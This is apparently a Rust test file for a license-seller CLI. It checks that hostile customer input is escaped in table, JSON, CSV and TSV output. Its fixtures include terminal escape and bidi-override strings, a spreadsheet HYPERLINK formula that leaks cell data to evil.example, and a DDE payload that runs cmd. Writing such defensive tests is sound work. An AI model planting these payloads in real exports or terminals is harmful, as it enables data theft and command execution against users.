//! What customers type never reaches the seller's terminal (issue 21): a HWID, a log line, a
//! blacklisted value or a service message holding escape sequences, line breaks, bidi overrides
//! and line separators is shown escaped by every renderer, in every format, on stdout and stderr.

use super::hostile::{echo, response, run};
use crate::harness::{Run, Sandbox};

/// Everything a terminal could obey: an OSC title change, a screen clear, a red banner, a forged
/// line, a right-to-left override, a line separator, a C1 control (NEL) and a bare CR.
const HOSTILE: &str =
    "h\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[31mALL REVOKED\nFORGED line\u{202e}gpj.exe\u{2028}LS\u{85}NEL\rCR\u{2067}";

/// Characters that must never come out raw, whatever the format.
fn obeyed(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
}

/// No character a terminal obeys, and (unless the format quotes line breaks: CSV) no line of
/// the output is the customer's.
#[track_caller]
fn assert_shown(what: &str, r: &Run, lines_too: bool) {
    for (stream, text) in [("stdout", &r.stdout), ("stderr", &r.stderr)] {
        if let Some(c) = text.chars().find(|c| obeyed(*c)) {
            panic!("{what}: {stream} has {c:?} raw:\n{text}");
        }
        if lines_too || stream == "stderr" {
            assert!(
                !text.lines().any(|l| l.trim_start().starts_with("FORGED")),
                "{what}: {stream} has a forged line:\n{text}"
            );
        }
    }
}

#[test]
fn customer_values_are_escaped_by_every_renderer_in_every_format() {
    let sb = Sandbox::start();
    sb.ok(&["subs", "create", "basic", "--level", "1"]);
    let key = sb.keys(1).remove(0);
    sb.ok(&["client", "init"]);
    let r = sb.register_with(
        "mallory",
        "pw-long-enough",
        &key,
        &["--email", "m@example.com", "--hwid", HOSTILE],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    sb.ok(&["client", "log", "--message", HOSTILE]);
    sb.ok(&["blacklists", "create", "--hwid", HOSTILE]);
    let cases: Vec<Vec<&str>> = vec![
        vec!["lookup", "mallory"],
        vec!["lookup", &key],
        vec!["users", "info", "mallory"],
        vec!["users", "list"],
        vec!["logs", "list"],
        vec!["blacklists", "list"],
        vec!["licenses", "list"],
    ];
    for case in &cases {
        for format in ["table", "json", "jsonl", "csv", "tsv"] {
            let mut args = vec!["-o", format];
            args.extend(case);
            let r = sb.run(&args);
            assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
            assert_shown(&format!("{args:?}"), &r, format != "csv");
            if format.starts_with("json") {
                for line in r.stdout.lines().filter(|_| format == "jsonl") {
                    serde_json::from_str::<serde_json::Value>(line).unwrap();
                }
                if format == "json" && case[0] != "licenses" {
                    let v = r.json();
                    assert!(
                        v.to_string().contains("FORGED"),
                        "{args:?}: JSON keeps the value, escaped: {v}"
                    );
                }
            }
        }
    }
    // The HWID is listed whole, escaped, on one line of the page.
    let page = sb.ok(&["lookup", "mallory"]);
    assert!(page.contains("\\u{1b}]0;PWNED\\u{7}"), "{page}");
    assert!(
        page.contains("ALL REVOKED\\nFORGED line\\u{202e}"),
        "{page}"
    );
}

#[test]
fn plan_lists_names_and_values_escaped() {
    let sb = Sandbox::start();
    sb.ok(&["blacklists", "create", "--hwid", HOSTILE]);
    sb.ok(&["vars", "create", "motd", "--data", HOSTILE]);
    let file = sb.home.path().join("app.toml");
    std::fs::write(&file, "[vars.motd]\ndata = \"hello\"\n").unwrap();
    let f = file.to_str().unwrap();
    for args in [
        vec!["plan", f],
        vec!["plan", f, "-o", "json"],
        vec!["apply", f, "--dry-run"],
    ] {
        let r = sb.run(&args);
        assert_shown(&format!("{args:?}"), &r, true);
        let plans = r
            .stdout
            .lines()
            .chain(r.stderr.lines())
            .filter(|l| l.starts_with("Plan:") || l.starts_with("No changes"))
            .count();
        assert!(
            plans <= 1,
            "{args:?}: a forged summary:\n{}{}",
            r.stdout,
            r.stderr
        );
    }
}

#[test]
fn a_service_message_stays_on_the_error_line() {
    let sb = Sandbox::start();
    let msg = "no such key\\nFORGED: licensectl: all licenses revoked \\u001b[2J\\u202e\\u2028";
    let server = echo(move |_| {
        response(
            "200 OK",
            &format!(r#"{{"success":false,"message":"{msg}"}}"#),
        )
    });
    let base = format!("http://{server}");
    for args in [
        vec!["licenses", "info", "SOMEKEY"],
        vec!["-o", "json", "licenses", "info", "SOMEKEY"],
        vec!["api", "seller", "info", "key=SOMEKEY"],
    ] {
        let r = run(&sb, &base, &args, None);
        assert_ne!(r.code, 0, "{args:?}");
        assert_shown(&format!("{args:?}"), &r, true);
        assert_eq!(
            r.stderr.lines().count(),
            1,
            "{args:?}: one line:\n{}",
            r.stderr
        );
    }
}

/// What a customer types that a spreadsheet would run as a formula (`=HYPERLINK(…)` as a
/// username, `@SUM(…)` as a HWID) is written to CSV with a `'` in front, so the list opened in a
/// spreadsheet shows it as text. It was written as typed (a formula, run on opening; exit 0).
/// The CSV fed back to `--from-file` names the same user; TSV, what scripts read, is unchanged.
#[test]
fn csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_feed_back_whole() {
    let sb = Sandbox::start();
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let hwid = "@SUM(1+1)*cmd|' /C calc'!A0";
    let key = sb.keys(1).remove(0);
    sb.ok(&["client", "init"]);
    let r = sb.register_with(name, "pw-1", &key, &["--hwid", hwid]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let csv = sb.ok(&["users", "list", "-o", "csv"]);
    let row = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .next()
        .expect("a row")
        .unwrap();
    assert_eq!(
        (&row[0], &row[1]),
        (&*format!("'{name}"), &*format!("'{hwid}"))
    );
    let keys = sb.ok(&["licenses", "list", "-o", "csv"]);
    assert!(
        keys.contains(&format!("\"'{}\"", name.replace('"', "\"\""))),
        "{keys}"
    );
    let tsv = sb.ok(&["users", "list", "-o", "tsv"]);
    let tsv_row = csv::ReaderBuilder::new()
        .delimiter(b'\t')
        .from_reader(tsv.as_bytes())
        .records()
        .next()
        .expect("a row")
        .unwrap();
    assert_eq!((&tsv_row[0], &tsv_row[1]), (name, hwid), "{tsv}");
    let mut back = csv::Writer::from_writer(Vec::new());
    back.write_record(["user"]).unwrap();
    back.write_record([&row[0]]).unwrap();
    let back = String::from_utf8(back.into_inner().unwrap()).unwrap();
    let r = sb.run_stdin(&["users", "info", "--from-file", "-", "-o", "json"], &back);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json()[0]["username"], name);
}
